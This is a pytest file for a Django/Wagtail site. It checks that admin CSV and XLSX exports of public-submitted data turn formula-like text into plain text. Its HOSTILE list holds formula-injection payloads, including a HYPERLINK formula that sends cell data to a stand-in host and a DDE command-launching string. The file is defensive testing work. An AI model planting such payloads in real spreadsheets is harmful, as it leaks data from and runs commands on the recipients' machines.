"""Admin spreadsheet exports write text that a spreadsheet would run as a formula (a family's name like
`=HYPERLINK(...)`, a message starting `+cmd`) as plain text, in CSV and XLSX, in every export that holds what
the public typed: memberships, free-sample requests, seat requests, contact messages and the search report."""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.test import Client
from django.utils import timezone

from wagtail.contrib.forms.models import FormSubmission

from home.spreadsheets import plain_text_cell
from learning.models import SampleRequest
from search.models import SearchQueryLog
from tests.factories.accounts import UserFactory
from tests.factories.contact import make_contact_page
from tests.factories.learning import MembershipFactory, SeatRequestFactory

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_becomes_plain_text(value):
    assert plain_text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jo Parent", "", 42, None, "a=b", "family@example.com"])
def test_other_values_are_unchanged(value):
    assert plain_text_cell(value) == value


def cells(response, export_format):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def admin_client_(db):
    client = Client()
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    return client


def make_membership(value):
    MembershipFactory(user__first_name=value, user__last_name="", notes=value)
    return "/admin/learning/membership/"


def make_sample_request(value):
    SampleRequest.objects.create(first_name=value, email="sample@example.com", relationship="parent")
    return "/admin/learning/samplerequest/"


def make_seat_request(value):
    SeatRequestFactory(region=value, situation=value)
    return "/admin/learning/seatrequest/"


def make_search_log(value):
    SearchQueryLog.objects.create(query=value, date=timezone.localdate(), hits=1, results=0)
    return "/admin/reports/searches/"


EXPORTS = [make_membership, make_sample_request, make_seat_request]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("make", EXPORTS, ids=lambda make: make.__name__)
@pytest.mark.parametrize("value", HOSTILE[:4])
def test_member_exports_write_formulas_as_text(admin_client_, make, value, export_format):
    url = make(value)
    response = admin_client_.get(url, {"export": export_format})
    assert response.status_code == 200
    exported = cells(response, export_format)
    assert "'" + value in exported
    assert value not in exported


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_contact_messages_export_writes_formulas_as_text(admin_client_, home_page, export_format):
    contact = make_contact_page(home_page)
    FormSubmission.objects.create(
        page=contact,
        form_data={"your_name": HOSTILE[0], "your_email_address": "jo@example.com", "your_message": HOSTILE[1]},
    )
    response = admin_client_.get(f"/admin/forms/submissions/{contact.pk}/", {"export": export_format})
    assert response.status_code == 200
    exported = cells(response, export_format)
    assert "'" + HOSTILE[0] in exported and "'" + HOSTILE[1] in exported
    assert HOSTILE[0] not in exported and HOSTILE[1] not in exported


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE)
def test_search_report_csv_writes_formulas_as_text(admin_client_, value):
    response = admin_client_.get(make_search_log(value), {"export": "csv"})
    exported = cells(response, "csv")
    assert "'" + value in exported
    assert value not in exported
